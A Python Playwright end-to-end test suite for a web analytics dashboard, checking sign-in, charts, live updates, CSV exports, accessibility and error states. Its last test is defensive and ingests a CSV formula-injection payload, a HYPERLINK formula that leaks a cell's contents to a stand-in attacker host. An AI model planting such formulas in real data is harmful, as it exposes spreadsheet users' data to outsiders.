"""The dashboard in a real headless Chromium (Debian's ``chromium``, driven by Playwright):
sign-in through the one-click link, every page with numbers and charts from the API,
live updates, ranges, CSV downloads, the phone layout, keyboard use and error states.

Screenshots of every page land in ``tests/e2e/artifacts/``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Page,
    expect,
    sync_playwright,
)

from .support import LiveServer, event, new_id, rfc3339, start_server, utc_now
from .webhooks_support import secrets_for

ARTIFACTS = Path(__file__).parent / "artifacts"
PAGES = ("overview", "influencer", "campaign", "ingestion")
INFLUENCERS = {"dash-a": ("instagram", "tiktok"), "dash-b": ("youtube",), "dash-c": ("x",)}
CAMPAIGN = "dash-launch"
NO_VALUE = "\N{EN DASH}"  # what a tile shows before its figure arrives


def chromium_path() -> str:
    found = os.environ.get("HYPEMETER_CHROMIUM") or shutil.which("chromium")
    if not found:
        pytest.fail("Chromium is missing: `make test` installs Debian's chromium package")
    return found


def history(now: dt.datetime) -> list[dict[str, Any]]:
    """A week of engagement for three influencers, a campaign, followers and comments."""
    events: list[dict[str, Any]] = []
    for day in range(7):
        for hour in (1, 9, 17):
            at = now - dt.timedelta(days=day, hours=hour)
            for n, (influencer, platforms) in enumerate(INFLUENCERS.items()):
                for platform in platforms:
                    base = {"influencer_id": influencer, "platform": platform, "ts": rfc3339(at)}
                    content = f"{influencer}-post-{day}"
                    events += [
                        event(**base, content_id=content, metric="likes", value=10 + n + day),
                        event(**base, content_id=content, metric="views", value=100 + day),
                        event(**base, content_id=content, metric="shares", value=2),
                        event(
                            **base,
                            content_id=content,
                            metric="comments",
                            value=1,
                            text=f"great post {day}-{hour}",
                            tags=["praise"],
                            user_id=f"fan-{day}",
                        ),
                        event(**base, metric="followers", kind="snapshot", value=5000 - 10 * day),
                    ]
                    if influencer != "dash-c":
                        campaign = {**base, "content_id": content, "campaign_id": CAMPAIGN}
                        events += [
                            event(**campaign, metric="likes", value=3),
                            event(**campaign, metric="impressions", value=400),
                            event(**campaign, metric="clicks", value=8),
                            event(**campaign, metric="conversions", value=2),
                        ]
    return events


@pytest.fixture(scope="module")
def dash(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    srv = start_server(tmp_path_factory.mktemp("dashboard"))
    acme = srv.keys["acme"]
    events = history(utc_now())
    for start in range(0, len(events), 500):
        response = srv.post_events(acme.ingest, events[start : start + 500])
        assert response.status_code == 200, response.text
        assert not response.json()["rejected"]
    refused = srv.post_events(acme.ingest, [event(metric="telepathy")])
    assert refused.status_code == 400
    with srv.client(acme.admin) as admin:
        made = admin.post(
            "/v1/admin/connectors", json={"platform": "tiktok", "secrets": secrets_for("tiktok")}
        )
        assert made.status_code == 201, made.text
    yield srv
    srv.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=chromium_path(), headless=True)
        yield launched
        launched.close()


class Tab:
    """One browser page and the console errors it logged."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.errors: list[str] = []
        page.on("console", self._console)
        page.on("pageerror", lambda exc: self.errors.append(f"uncaught: {exc}"))

    def _console(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.errors.append(message.text)

    def ready(self, name: str, asked: str | None = None) -> None:
        """Wait for the page (with the range/granularity ``asked``) to have loaded."""
        extra = f'[data-asked="{asked}"]' if asked else ""
        self.page.wait_for_selector(f'main[data-page="{name}"][data-state="ready"]{extra}')

    def open(self, name: str) -> None:
        self.page.click(f'#nav a[data-page="{name}"]')
        self.ready(name)

    def shot(self, name: str) -> None:
        self.page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)

    def tile(self, name: str) -> float:
        text = self.page.inner_text(f'[data-tile="{name}"] .value')
        return float(text.replace(",", ""))

    def rows(self, table: str) -> list[list[str]]:
        cells = self.page.eval_on_selector_all(
            f'table[data-table="{table}"] tbody tr',
            "rows => rows.map(r => [...r.cells].map(c => c.innerText.trim()))",
        )
        return [list(row) for row in cells]


@pytest.fixture(scope="module")
def context(browser: Browser) -> Iterator[BrowserContext]:
    """One browser profile for the module: its HTTP cache loads the chart library once.
    Each test has its own tab, and so its own session storage."""
    made = browser.new_context(viewport={"width": 1280, "height": 800}, accept_downloads=True)
    made.set_default_timeout(15_000)
    yield made
    made.close()


@pytest.fixture
def tab(context: BrowserContext) -> Iterator[Tab]:
    opened = Tab(context.new_page())
    yield opened
    opened.page.close()


def api(srv: LiveServer, path: str, **params: Any) -> Any:
    with srv.client(srv.keys["acme"].read) as client:
        response = client.get(path, params=params)
    assert response.status_code == 200, response.text
    return response.json()


def sign_in(tab: Tab, srv: LiveServer, key: str | None = None) -> None:
    tab.page.goto(f"{srv.url}/#key={key or srv.keys['acme'].read}")
    tab.ready("overview")


def today_total(srv: LiveServer, metric: str) -> float:
    midnight = utc_now().replace(hour=0, minute=0, second=0, microsecond=0)
    answer = api(
        srv,
        "/v1/metrics/series",
        start=rfc3339(midnight),
        end=rfc3339(midnight + dt.timedelta(days=2)),
        granularity="day",
        metrics=metric,
    )
    return float(answer["totals"][metric])


def test_every_page_signs_in_through_the_link_and_shows_the_api_numbers(
    dash: LiveServer, tab: Tab
) -> None:
    page = tab.page
    sign_in(tab, dash)
    # The key left the address bar for this tab's session storage.
    assert "key=" not in page.url
    assert page.evaluate("sessionStorage.getItem('hypemeter.readKey')") == dash.keys["acme"].read

    # Overview: today's totals as the API counts them, the last hour per minute, the tables.
    expect(page.locator('[data-tile="likes"] .value')).not_to_have_text(NO_VALUE)
    for metric in ("likes", "views", "comments"):
        assert tab.tile(metric) == today_total(dash, metric)
    minutes = page.locator('[data-chart="overview-minutes"]')
    expect(minutes).to_have_attribute("data-points", "60")
    assert minutes.locator("svg.main-svg").count() >= 1
    leaders = api(dash, "/v1/leaderboard", metric="engagement", period="24h", limit=10)["data"]
    assert [row[1] for row in tab.rows("top-influencers")] == [r["influencer_id"] for r in leaders]
    trending = api(dash, "/v1/content/trending", hours_back=24, min_interactions=1, limit=10)
    assert [row[0] for row in tab.rows("trending")] == [r["content_id"] for r in trending["data"]]
    tab.shot("overview")

    # Influencer: the first of the leaderboard, its totals, charts and platforms.
    tab.open("influencer")
    first = api(dash, "/v1/leaderboard", metric="engagement", period="30d", limit=200)["data"][0]
    influencer = first["influencer_id"]
    assert page.input_value("#pick-influencer") == influencer
    series = api(
        dash,
        f"/v1/influencers/{influencer}/metrics",
        period="24h",
        metrics="likes,engagement_rate,follower_growth",
    )
    assert tab.tile("likes") == series["totals"]["likes"]
    rate = series["totals"]["engagement_rate"]
    assert tab.tile("engagement_rate") == pytest.approx(rate, abs=0.01)
    assert tab.tile("follower_growth") == series["totals"]["follower_growth"]
    for metric in ("likes", "comments", "views", "engagement_rate", "followers"):
        chart = page.locator(f'[data-chart="influencer-{metric}"]')
        expect(chart).to_have_attribute("data-points", str(len(series["series"])))
    platforms = {row[0] for row in tab.rows("influencer-platforms")}
    assert platforms == set(INFLUENCERS[influencer])
    tab.shot("influencer")

    # Campaign: totals, rates and the per-influencer breakdown.
    tab.open("campaign")
    assert page.input_value("#pick-campaign") == CAMPAIGN
    answer = api(
        dash,
        f"/v1/campaigns/{CAMPAIGN}/metrics",
        period="7d",
        metrics="clicks,conversions,ctr,conversion_rate,emv",
    )
    for metric in ("clicks", "conversions", "ctr", "conversion_rate", "emv"):
        assert tab.tile(metric) == pytest.approx(answer["totals"][metric], abs=0.01)
    assert answer["totals"]["ctr"] == pytest.approx(2.0)  # 8 clicks per 400 impressions
    who = sorted(row[0] for row in tab.rows("campaign-influencers"))
    assert who == ["dash-a", "dash-b"]
    buckets = api(dash, f"/v1/campaigns/{CAMPAIGN}/metrics", period="7d", metrics="clicks")
    campaign_chart = page.locator('[data-chart="campaign-series"]')
    expect(campaign_chart).to_have_attribute("data-points", str(len(buckets["series"])))
    tab.shot("campaign")

    # Ingestion health: what was accepted, the refused event and the connector.
    tab.open("ingestion")
    rejections = tab.rows("rejections")
    assert any(row[2] == "metric" and "telepathy" in row[3] for row in rejections)
    connectors = tab.rows("connectors")
    assert [row[1] for row in connectors] == ["tiktok"]
    assert tab.rows("dead-letters")[0][0] == "No dead letters."
    expect(page.locator('[data-chart="ingestion-minutes"]')).to_have_attribute("data-points", "60")
    tab.shot("ingestion")

    assert tab.errors == []


def test_an_ingested_event_reaches_the_overview_live(dash: LiveServer, tab: Tab) -> None:
    sign_in(tab, dash)
    likes = tab.page.locator('[data-tile="likes"] .value')
    expect(likes).not_to_have_text(NO_VALUE)
    before = tab.tile("likes")
    sent = dash.post_events(
        dash.keys["acme"].ingest,
        [event(influencer_id="dash-a", metric="likes", value=7, ts=rfc3339(utc_now()))],
    )
    assert sent.json()["accepted"] == 1
    expect(likes).to_have_text(f"{before + 7:,.0f}", timeout=2_000)
    assert tab.errors == []


def test_new_comments_reach_the_influencer_page_live(dash: LiveServer, tab: Tab) -> None:
    sign_in(tab, dash)
    tab.open("influencer")
    influencer = tab.page.input_value("#pick-influencer")
    comments = tab.page.locator('[data-list="comments"] li')
    expect(comments.first).to_have_text("Waiting for comments…")
    text = f"where can I buy this? {new_id('c')}"
    other = next(i for i in INFLUENCERS if i != influencer)
    sent = dash.post_events(
        dash.keys["acme"].ingest,
        [
            event(influencer_id=influencer, metric="comments", text=text, ts=rfc3339(utc_now())),
            event(influencer_id=other, metric="comments", text="not this one"),
        ],
    )
    assert sent.json()["accepted"] == 2
    expect(comments.first).to_contain_text(text)
    expect(comments).to_have_count(1)  # another influencer's comment stays off this page
    assert tab.errors == []


def test_ranges_and_granularity_switch(dash: LiveServer, tab: Tab) -> None:
    page = tab.page
    sign_in(tab, dash)
    tab.open("influencer")
    influencer = page.input_value("#pick-influencer")
    previous = "auto"
    for period, grain in (("7d", "auto"), ("30d", "day"), ("1h", "minute")):
        page.click(f'button[data-range="{period}"]')
        tab.ready("influencer", f"{period}/{previous}")
        if grain != previous:
            page.select_option("#granularity", grain)
            tab.ready("influencer", f"{period}/{grain}")
        previous = grain
        main = page.locator("main")
        expect(main).to_have_attribute("data-range", period)
        expect(page.locator(f'button[data-range="{period}"]')).to_have_attribute(
            "aria-pressed", "true"
        )
        series = api(
            dash,
            f"/v1/influencers/{influencer}/metrics",
            period=period,
            granularity=grain,
            metrics="likes",
        )
        expect(main).to_have_attribute("data-granularity", series["granularity"])
        expect(page.locator('[data-chart="influencer-likes"]')).to_have_attribute(
            "data-points", str(len(series["series"]))
        )
        assert tab.tile("likes") == series["totals"]["likes"]
    assert tab.errors == []


def _download(tab: Tab, table: str) -> list[list[str]]:
    with tab.page.expect_download() as info:
        tab.page.click(f'button[data-csv="{table}"]')
    download = info.value
    assert download.suggested_filename == f"{table}.csv"
    return list(csv.reader(io.StringIO(Path(download.path()).read_text())))


def test_tables_download_as_csv(dash: LiveServer, tab: Tab) -> None:
    sign_in(tab, dash)
    leaders = api(dash, "/v1/leaderboard", metric="engagement", period="24h", limit=10)["data"]
    got = _download(tab, "top-influencers")
    assert got[0] == ["rank", "influencer_id", "value"]
    assert got[1:] == [[str(r["rank"]), r["influencer_id"], str(r["value"])] for r in leaders]

    tab.open("campaign")
    got = _download(tab, "campaign-influencers")
    assert got[0][:3] == ["influencer_id", "likes", "comments"]
    assert sorted(row[0] for row in got[1:]) == ["dash-a", "dash-b"]

    tab.open("ingestion")
    got = _download(tab, "rejections")
    assert got[0] == ["at", "scope", "field", "error"]
    assert any(row[2] == "metric" and "telepathy" in row[3] for row in got[1:])
    assert tab.errors == []


def test_phone_width_has_no_horizontal_scroll(dash: LiveServer, tab: Tab) -> None:
    tab.page.set_viewport_size({"width": 390, "height": 844})
    sign_in(tab, dash)
    for name in PAGES:
        if name != "overview":
            tab.open(name)
        tab.page.wait_for_timeout(300)  # charts size themselves to the screen
        width = tab.page.evaluate("document.documentElement.scrollWidth")
        assert width <= 390, f"{name} is {width}px wide"
        tab.shot(f"phone-{name}")
    assert tab.errors == []


# WCAG 2 contrast of each element's own text against the first opaque background behind
# it: [ratio, text, colour, background] for those under 4.5:1 (3:1 for large text).
# Chart text is drawn in SVG by plotly and is not an HTML text node: left out.
LOW_CONTRAST_JS = """() => {
  const rgb = (c) => (c.match(/[\\d.]+/g) || []).map(Number);
  const lum = ([r, g, b]) => [r, g, b].map((v) => {
    v /= 255;
    return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
  }).reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const backdrop = (el) => {
    for (let node = el; node; node = node.parentElement) {
      const c = rgb(getComputedStyle(node).backgroundColor);
      if (c.length === 3 || (c.length === 4 && c[3] > 0.99)) return c.slice(0, 3);
    }
    return [255, 255, 255];
  };
  const low = [];
  for (const el of document.querySelectorAll("body *")) {
    if (el.closest("svg, .js-plotly-plot")) continue;
    const own = [...el.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
    const style = getComputedStyle(el);
    if (!own || style.visibility === "hidden" || !el.getClientRects().length) continue;
    const a = lum(rgb(style.color).slice(0, 3)), b = lum(backdrop(el));
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    const size = parseFloat(style.fontSize), bold = Number(style.fontWeight) >= 700;
    const large = size >= 24 || (bold && size >= 18.66);
    if (ratio < (large ? 3 : 4.5)) {
      low.push([Math.round(ratio * 100) / 100, el.textContent.trim().slice(0, 40),
                style.color, backdrop(el).join(",")]);
    }
  }
  return low;
}"""


def test_text_has_readable_contrast_on_every_page(dash: LiveServer, tab: Tab) -> None:
    tab.page.goto(dash.url)
    expect(tab.page.locator("#signin")).to_be_visible()
    assert tab.page.evaluate(LOW_CONTRAST_JS) == [], "sign-in"
    sign_in(tab, dash)
    for name in PAGES:
        if name != "overview":
            tab.open(name)
        assert tab.page.evaluate(LOW_CONTRAST_JS) == [], name
    assert tab.errors == []


def test_keyboard_reaches_every_page(dash: LiveServer, tab: Tab) -> None:
    page = tab.page
    sign_in(tab, dash)
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    for name in ("overview", "influencer", "campaign", "ingestion"):
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.dataset.page") == name
    page.keyboard.press("Enter")
    tab.ready("ingestion")
    assert page.locator('#nav a[aria-current="page"]').get_attribute("data-page") == "ingestion"
    assert tab.errors == []


def test_a_tenant_without_data_sees_empty_states(dash: LiveServer, tab: Tab) -> None:
    sign_in(tab, dash, dash.keys["globex"].read)
    assert tab.tile("likes") == 0
    assert tab.rows("top-influencers") == [["No data yet."]]
    expect(tab.page.locator('[data-chart="overview-minutes"]')).to_contain_text("No data yet")
    tab.open("influencer")
    expect(tab.page.locator("main .empty")).to_contain_text("No influencer has any engagement yet")
    tab.shot("empty-influencer")
    assert tab.errors == []


def test_a_bad_key_and_an_unreachable_server_say_so(dash: LiveServer, tab: Tab) -> None:
    page = tab.page
    page.goto(f"{dash.url}/#key=hm_nope_{new_id()}")
    expect(page.locator("#signin-error")).to_contain_text("not accepted")
    assert page.evaluate("sessionStorage.getItem('hypemeter.readKey')") is None
    page.fill("#key", dash.keys["acme"].read)
    page.click("#signin button[type=submit]")
    tab.ready("overview")

    # The network fails under the page, as when the server is stopped: requests to the
    # API are refused at the browser's network layer.
    page.route("**/v1/**", lambda route: route.abort("connectionrefused"))
    page.click('#nav a[data-page="ingestion"]')
    expect(page.locator("#banner")).to_contain_text("cannot be reached")
    page.screenshot(path=str(ARTIFACTS / "server-down.png"))
    page.unroute("**/v1/**")
    page.click('#nav a[data-page="overview"]')
    tab.ready("overview")
    expect(page.locator("#banner")).to_be_hidden()


def test_the_page_never_sends_the_key_in_a_url(dash: LiveServer, tab: Tab) -> None:
    seen: list[str] = []
    tab.page.on("request", lambda request: seen.append(request.url))
    sign_in(tab, dash)
    tab.open("influencer")
    tab.page.wait_for_timeout(500)
    key = dash.keys["acme"].read
    assert seen and not [url for url in seen if key in url]
    # Live updates travel with a stream token instead.
    with httpx.Client(base_url=dash.url) as client:
        assert client.get("/").headers["content-security-policy"].startswith("default-src 'self'")


def test_downloaded_csv_cells_never_run_as_formulas(dash: LiveServer, tab: Tab) -> None:
    """Comment text and ids come from anyone: a downloaded cell that a spreadsheet would
    run as a formula starts with ``'``, as in the server's CSV; numbers stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    content = f"+dash-formula-{new_id('c')}"
    sent = dash.post_events(
        dash.keys["acme"].ingest,
        [
            event(
                influencer_id="dash-c",
                platform="x",
                content_id=content,
                metric="comments",
                text=formula,
                tags=["@everyone"],
                ts=rfc3339(utc_now() - dt.timedelta(minutes=1)),
            )
        ],
    )
    assert sent.json()["accepted"] == 1
    sign_in(tab, dash)
    expect(tab.page.locator('table[data-table="trending"]')).to_contain_text(content)

    got = _download(tab, "trending")

    assert got[0] == [
        "content_id",
        "interaction_count",
        "total_engagement",
        "latest_interaction",
        "sample_text",
        "common_tags",
    ]
    row = next(r for r in got[1:] if r[0].endswith(content))
    assert row[0] == "'" + content
    assert row[1:3] == ["1", "1"]
    assert row[4:] == ["'" + formula, "'@everyone"]
    assert tab.errors == []
